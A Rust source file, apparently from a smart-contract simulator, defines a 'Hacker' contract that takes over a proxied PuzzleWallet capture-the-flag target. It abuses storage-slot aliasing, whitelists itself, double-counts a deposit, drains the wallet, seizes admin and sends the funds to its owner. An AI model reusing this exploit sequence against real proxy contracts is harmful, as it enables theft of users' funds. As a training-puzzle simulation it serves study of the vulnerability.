use alloy_primitives::{Address, U256};
use tracing::info;

use super::{proxy, unknown_method, wallet, Contract};
use crate::abi::{Call, Token, Value};
use crate::errors::SimError;
use crate::layout::{address_to_uint, decode_address, encode_address, Layout, VarKind};
use crate::simulator::Frame;

pub const ATTACK: &str = "attack(address)";
pub const WITHDRAW: &str = "withdraw()";
pub const OWNER: &str = "owner()";

/// Attack contract: takes over a proxied `PuzzleWallet` in a single call.
#[derive(Debug, Clone, Copy, Default)]
pub struct Hacker;

impl Hacker {
    fn only_owner(frame: &Frame<'_>) -> Result<Address, SimError> {
        let owner = decode_address(frame.sload("owner")?);
        if owner != frame.msg_sender() {
            return Err(SimError::NotOwner);
        }
        Ok(owner)
    }

    /// Drive the hijack against `target` with `msg.value` as the deposit.
    ///
    /// The deposit must match the target's balance so the doubled record
    /// covers everything the wallet holds afterwards.
    fn attack(frame: &mut Frame<'_>, target: Address) -> Result<Value, SimError> {
        let owner = Self::only_owner(frame)?;
        let this = frame.this();
        let value = frame.msg_value();

        // pendingAdmin aliases owner
        frame.call(target, &proxy::propose_new_admin(this), U256::ZERO)?;
        frame.call(target, &wallet::add_to_whitelist(this), U256::ZERO)?;
        frame.call(target, &wallet::nested_double_deposit(), value)?;

        let drained = frame.balance_of(target);
        frame.call(target, &wallet::execute(this, drained, Call::empty()), U256::ZERO)?;
        // maxBalance aliases admin
        frame.call(target, &wallet::set_max_balance(address_to_uint(owner)), U256::ZERO)?;

        let loot = frame.balance();
        frame.call(owner, &Call::empty(), loot)?;
        info!(target: "sim::hacker", %target, new_admin = %owner, %loot, "wallet hijacked");
        Ok(Value::Uint(loot))
    }
}

impl Contract for Hacker {
    fn name(&self) -> &'static str {
        "Hacker"
    }

    fn layout(&self) -> Layout {
        Layout::new("Hacker").with("owner", VarKind::Address)
    }

    fn construct(&self, frame: &mut Frame<'_>, _args: &Call) -> Result<(), SimError> {
        let deployer = frame.msg_sender();
        frame.sstore("owner", encode_address(deployer))
    }

    fn call(&self, frame: &mut Frame<'_>, call: &Call) -> Result<Value, SimError> {
        match call.signature() {
            ATTACK => Self::attack(frame, call.address_arg(0)?),
            WITHDRAW => {
                let owner = Self::only_owner(frame)?;
                let amount = frame.balance();
                frame.call(owner, &Call::empty(), amount)?;
                Ok(Value::Uint(amount))
            }
            OWNER => Ok(Value::Address(decode_address(frame.sload("owner")?))),
            // receive()
            "" => Ok(Value::None),
            _ => Err(unknown_method(self.name(), call)),
        }
    }
}

pub fn attack(target: Address) -> Call {
    Call::new(ATTACK, vec![Token::Address(target)])
}

pub fn withdraw() -> Call {
    Call::new(WITHDRAW, vec![])
}

pub fn owner() -> Call {
    Call::new(OWNER, vec![])
}
